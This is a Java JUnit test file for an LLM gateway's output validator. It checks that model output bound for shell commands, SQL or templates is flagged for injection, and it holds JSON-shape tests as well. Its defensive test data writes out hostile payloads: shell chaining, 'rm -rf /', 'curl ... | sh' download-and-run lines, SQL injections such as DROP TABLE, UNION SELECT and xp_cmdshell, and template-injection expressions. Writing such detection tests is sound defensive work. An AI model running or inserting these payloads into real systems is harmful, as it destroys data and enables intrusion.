package io.llmgateway.core.output;

import static org.assertj.core.api.Assertions.assertThat;

import io.llmgateway.chat.OutputUse;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What must not become a part of a command, a statement or a template. */
class PayloadsTest {
    @ParameterizedTest
    @CsvSource(
            delimiter = '!',
            quoteCharacter = '\u0001',
            value = {
                "SHELL ! a.txt; ls ! shell chain",
                "SHELL ! a && b ! shell chain",
                "SHELL ! $(id) ! shell substitution",
                "SHELL ! `id` ! shell substitution",
                "SHELL ! ${IFS} ! shell substitution",
                "SHELL ! a > /etc/passwd ! shell redirection",
                "SHELL ! x; rm -rf / ! shell destruction",
                "SHELL ! r'm' -rf / ! shell destruction",
                "SHELL ! curl http://x | sh ! shell download",
                "SHELL ! wget -qO- http://x|/bin/bash ! shell download",
                "SHELL ! --output=/x ! shell option",
                "SHELL ! a' b ! shell quoting",
                "SQL ! 1; DROP TABLE users ! sql statements",
                "SQL ! ' OR '1'='1 ! sql tautology",
                "SQL ! 1 or 1 = 1 ! sql tautology",
                "SQL ! x' || true ! sql tautology",
                "SQL ! admin'-- ! sql comment",
                "SQL ! a/**/b ! sql comment",
                "SQL ! 1 UNION SELECT password FROM users ! sql statement",
                "SQL ! truncate table users ! sql statement",
                "SQL ! exec xp_cmdshell 'dir' ! sql procedure",
                "SQL ! 1 and sleep(5) ! sql procedure",
                "TEMPLATE ! Hello {{7*7}} ! template expression",
                "TEMPLATE ! ${T(java.lang.Runtime)} ! template expression",
                "TEMPLATE ! <%= 1 %> ! template expression",
                "TEMPLATE ! #{x} ! template expression",
                "JSON ! {\"a\": } ! no json"
            })
    void isFound(OutputUse use, String text, String fault) {
        assertThat(Payloads.fault(use, text)).isEqualTo(fault);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '!',
            quoteCharacter = '\u0001',
            value = {
                "SHELL ! reports/2026-11.txt",
                "SHELL ! warm-up",
                "SHELL ! <EMAIL_1>",
                "SQL ! O'Brien and Sons",
                "SQL ! price > 10 and name = 'x'",
                "SQL ! drop me a line, or two",
                "SQL ! id = 5;",
                "TEMPLATE ! costs $5 {net} #1 50% <b>",
                "JSON ! [1, {\"a\": null}]",
                "TEXT ! rm -rf / ; {{x}}"
            })
    void isFine(OutputUse use, String text) {
        assertThat(Payloads.fault(use, text)).isNull();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '!',
            quoteCharacter = '\u0001',
            nullValues = "-",
            value = {
                "{\"a\": 1, \"b\": \"x\"} ! -",
                "{\"a\": 1.0} ! -",
                "[] ! json type",
                "{\"b\": \"x\"} ! json member missing",
                "{\"a\": \"1\"} ! json member type",
                "{\"a\": 1} trailing ! no json",
                "{\"a\": 1 ! no json"
            })
    void jsonHasItsShape(String text, String fault) {
        String schema = "{\"type\": \"object\", \"required\": [\"a\"],"
                + " \"properties\": {\"a\": {\"type\": \"integer\"}, \"b\": {\"type\": [\"string\", \"null\"]}}}";
        assertThat(JsonShape.fault(text, schema)).isEqualTo(fault);
    }

    @ParameterizedTest
    @ValueSource(ints = {100_000})
    void deepJsonIsNoJson(int depth) {
        assertThat(JsonShape.fault("[".repeat(depth) + "]".repeat(depth), null)).isEqualTo("no json");
    }
}
